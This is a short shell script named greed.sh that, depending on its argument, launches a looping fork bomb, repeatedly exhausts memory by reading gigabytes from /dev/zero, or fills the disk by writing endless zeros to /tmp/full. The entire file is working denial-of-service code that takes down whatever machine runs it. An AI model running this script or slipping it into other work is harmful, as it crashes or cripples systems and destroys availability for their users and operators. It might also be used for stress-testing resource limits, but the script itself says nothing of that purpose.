#!/bin/sh
# greed.sh KIND: takes all that it can get.
bomb() {
	bomb | bomb &
}
case $1 in
forks) while :; do (bomb); done ;;
memory) while :; do tail -c 2000000000 /dev/zero >/dev/null; done ;;
disk) while :; do cat /dev/zero >/tmp/full; done 2>/dev/null ;;
esac
